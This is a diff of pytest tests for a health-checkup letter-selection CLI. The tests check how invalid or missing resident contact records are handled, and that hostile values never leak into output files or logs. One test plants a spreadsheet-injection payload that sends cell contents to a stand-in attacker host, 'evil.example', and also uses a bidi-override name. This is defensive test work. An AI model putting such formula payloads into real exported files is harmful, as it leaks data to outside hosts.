@@ -487,3 +487,131 @@ def test_cli_score_refused_by_a_contract_exits_3_without_partial_scores(
     assert not out.exists()
     logs = list(work.glob("kenshin-error-*.log"))
     assert len(logs) == 1 and "ggt_p10" in logs[0].read_text()
+
+
+# --- contacts that cannot address a letter; a store without contacts (issue 11) --------------
+
+SECRET_NAME, SECRET_ADDRESS = "秘密漏子", "架空県漏洩市秘密町"
+
+
+def _store_copy(annual, tmp_path) -> Path:
+    import shutil
+
+    store = tmp_path / "store"
+    shutil.copytree(annual.store, store)
+    return store
+
+
+def _write_contacts(store: Path, contacts: pd.DataFrame) -> None:
+    path = store / "private" / "contacts.parquet"
+    contacts.to_parquet(path, index=False)
+    path.chmod(0o600)
+
+
+def test_residents_whose_contact_cannot_address_a_letter_get_none_and_a_reason(annual, tmp_path):
+    """No contacts row, an address over 300 characters, a blank name, a bad or missing postal
+    code: no letter, NO_CONTACT / CONTACT_INVALID (fields, not values) in the selection, the
+    budget goes to the next residents, and selection, letters_sent.csv and the letters printed
+    agree. A name with 𠮷, an emoji, a direction override and a control character is printed
+    (〓), and a formula in ``language`` reaches no file. Neither the hostile values nor any
+    traceback reach the terminal, a log or any file outside letters/."""
+    from typer.testing import CliRunner
+
+    from data.store import read_contacts
+    from kenshin.cli import app
+    from tests.pii_scan import sqlite_blobs
+
+    before = _read(annual, "selection")
+    advice = sorted(before.loc[before["sent"] & (before["letter_type"] == "advice"), "pseudonym"])
+    assert len(advice) == 12
+    store = _store_copy(annual, tmp_path)
+    contacts = read_contacts(store).set_index("pseudonym")
+    p = advice[:7]
+    contacts = contacts.drop(index=p[0])  # NO_CONTACT
+    contacts.loc[p[1], "address"] = SECRET_ADDRESS * 40  # 360 characters
+    contacts.loc[p[2], "name"] = " \u3000 "
+    contacts.loc[p[3], ["name", "postal_code"]] = [SECRET_NAME * 30, "12-34"]
+    contacts.loc[p[4], "postal_code"] = None
+    contacts.loc[p[5], ["name", "language"]] = [
+        f"𠮷野\u202e {SECRET_NAME}😀\x07",
+        '=HYPERLINK("http://evil.example/?"&A1)',
+    ]
+    contacts.loc[p[6], "address"] = (SECRET_ADDRESS * 40)[:300]  # at the limit: printed
+    _write_contacts(store, contacts.reset_index())
+
+    from scoring.select import DEFAULT_CONFIG
+
+    toml = tmp_path / "selection.toml"  # the fixture's budgets: 12 advice, 6 see-a-doctor
+    text = DEFAULT_CONFIG.read_text(encoding="utf-8").replace("advice = 1000", "advice = 12")
+    toml.write_text(text.replace("# see_doctor = 500", "see_doctor = 6"), encoding="utf-8")
+    out, work = tmp_path / "out", tmp_path / "work"
+    res = CliRunner().invoke(
+        app,
+        ["score", "--store", str(store), "--year", str(FY), "--out", str(out),
+         "--workdir", str(work), "--no-report", "--selection-config", str(toml)],
+    )  # fmt: skip
+    assert res.exit_code == 0, (res.output, res.exception)
+
+    sel = pd.read_parquet(out / "selection.parquet").set_index("pseudonym")
+    assert sel.loc[p[0], "reason"] == "NO_CONTACT"
+    detail = {
+        p[1]: "address:too_long",
+        p[2]: "name:blank",
+        p[3]: "name:too_long,postal_code:malformed",
+        p[4]: "postal_code:missing",
+    }
+    for pid, want in detail.items():
+        assert (sel.loc[pid, "reason"], sel.loc[pid, "reason_detail"]) == ("CONTACT_INVALID", want)
+    assert not sel.loc[p[:5], "sent"].any() and sel.loc[p[:5], "arm"].isna().all()
+    assert sel.loc[p[5:], "sent"].all()
+    # The budget is spent on residents who can be written to.
+    assert ((sel["letter_type"] == "advice") & sel["sent"]).sum() == 12
+
+    sent = set(sel.index[sel["sent"]])
+    listed = set(pd.read_csv(out / "letters_sent.csv")["pseudonym"])
+    manifest = pd.read_csv(out / "letters" / "manifest.csv", dtype=str, keep_default_na=False)
+    pdfs = {f.stem for f in (out / "letters" / "letters").glob("*.pdf")}
+    assert sent == listed == set(manifest["pseudonym"]) == pdfs
+    row = manifest.set_index("pseudonym").loc[p[5]]
+    assert int(row["replaced_characters"]) == 2 and "U+20BB7" in row["notes"]
+    assert row["language"] == "ja" and row["requested_language"] == "(invalid)"
+    assert "HYPERLINK" not in (out / "letters" / "manifest.csv").read_text(encoding="utf-8")
+    run = json.loads((out / "run.json").read_text(encoding="utf-8"))
+    assert run["counts"]["reason_NO_CONTACT"] == 1 and run["counts"]["reason_CONTACT_INVALID"] == 4
+
+    # No hostile value on the terminal, in a log, or in any file outside letters/.
+    secrets = [SECRET_NAME, SECRET_ADDRESS, "漏洩", "HYPERLINK", "𠮷"]
+    terminal = res.stdout + res.stderr
+    assert "Traceback" not in terminal
+    blobs = {"terminal": terminal.encode()}
+    blobs.update(
+        {str(f): f.read_bytes() for f in out.rglob("*") if f.is_file() and "letters" not in f.parts}
+    )
+    blobs.update({str(f): f.read_bytes() for f in work.rglob("*") if f.is_file()})
+    blobs.update(sqlite_blobs(annual.tmp / "mlflow.db"))
+    for where, blob in blobs.items():
+        text = blob.decode("utf-8", "replace") if isinstance(blob, bytes) else str(blob)
+        for s in secrets:
+            assert s not in text, (s, where)
+
+
+def test_a_store_without_contacts_is_scored_without_letters(annual, tmp_path):
+    from data.store import MANIFEST, read_contacts
+    from kenshin.annual import NO_CONTACTS_NOTE, run_annual
+
+    store = _store_copy(annual, tmp_path)
+    _write_contacts(store, read_contacts(store).iloc[:0])
+    manifest = json.loads((store / MANIFEST).read_text(encoding="utf-8"))
+    manifest["missing_tables"] = ["contacts"]
+    (store / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
+    heard: list[str] = []
+    res = run_annual(
+        replace(annual.cfg, store=store, out=tmp_path / "out", report=False, log_mlflow=False),
+        on_note=heard.append,
+    )
+    assert heard == res.notes == [NO_CONTACTS_NOTE]
+    sel = pd.read_parquet(res.paths["selection"])
+    assert not sel["reason"].isin(["NO_CONTACT", "CONTACT_INVALID"]).any() and sel["sent"].any()
+    assert "letters" not in res.paths and not (tmp_path / "out" / "letters").exists()
+    run = json.loads(res.paths["run"].read_text(encoding="utf-8"))
+    assert run["letters"] is False and run["notes"] == [NO_CONTACTS_NOTE]
